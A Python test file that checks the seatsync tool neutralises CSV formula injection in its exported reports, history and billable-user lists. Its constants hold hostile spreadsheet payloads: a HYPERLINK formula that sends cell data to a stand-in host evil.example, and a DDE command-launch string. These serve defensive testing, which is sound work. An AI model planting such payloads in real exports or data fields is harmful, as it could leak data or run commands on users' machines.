"""CSV formula injection: every CSV seatsync writes shows hostile names and emails as text, never as formulas."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from seatsync.cli.main import cli
from seatsync.csv_safe import FORMULA_STARTS, csv_text, safe_cell
from tests.foundation.util import USERS_HEADER, load
from tests.push.conftest import World
from tests.push.test_cli import connect

HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_NAME = "+cmd|' /C calc'!A0"
HOSTILE_EMAIL = "-2+3@evil.example"
HOSTILE_ID = "@SUM(A1:A9)"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_a_leading_quote(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_text(["a"], [[start + "x"]]).splitlines()[1].lstrip('"').startswith("'")


def test_other_cells_and_numbers_are_left_as_they_are() -> None:
    assert [safe_cell(v) for v in ("Acme", "a=b", "", " =x", -3, 2.5, None)] == [
        "Acme",
        "a=b",
        "",
        " =x",
        -3,
        2.5,
        None,
    ]
    assert csv_text(["n"], [[-3]]) == "n\n-3\n"


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_STARTS)]


def hostile_import(world: World) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["company_id", "name"])
    writer.writerow(["c01", HOSTILE_COMPANY])
    load(world.engine, world.tenant, "companies", buffer.getvalue().encode())
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(USERS_HEADER.split(","))
    writer.writerow([HOSTILE_ID, "c01", HOSTILE_EMAIL, HOSTILE_NAME, "active", "2026-09-20T00:00:00Z"])
    load(world.engine, world.tenant, "users", buffer.getvalue().encode())


def invoke(database_url: str, *args: str) -> str:
    result = CliRunner().invoke(cli, [*args, "--database-url", database_url], catch_exceptions=False)
    assert result.exit_code in (0, 1), result.output
    return result.output


def test_the_report_attached_history_and_billable_users_neutralise_formulas(world: World, database_url: str) -> None:
    hostile_import(world)
    connect(world)
    slug = world.tenant.slug
    invoke(database_url, "push", "connectwise", "--tenant", slug, "--period", "2026-10")

    (document,) = [d for d in world.sandbox.documents.values() if d.record_id == world.mapped["c01"].agreement]
    attached = document.content.decode()
    assert HOSTILE_NAME in attached  # the user is listed...
    assert formula_cells(attached) == []  # ...as text
    assert "'" + HOSTILE_NAME in attached and "'" + HOSTILE_EMAIL in attached and "'" + HOSTILE_ID in attached

    history = invoke(database_url, "history", "--tenant", slug, "--format", "csv")
    assert HOSTILE_COMPANY.split("(")[0] in history
    assert formula_cells(history) == []

    users = invoke(database_url, "billable", "--tenant", slug, "--period", "2026-10", "--users", "--format", "csv")
    assert HOSTILE_NAME in users
    assert formula_cells(users) == []
    billable = invoke(database_url, "billable", "--tenant", slug, "--period", "2026-10", "--format", "csv")
    assert formula_cells(billable) == []
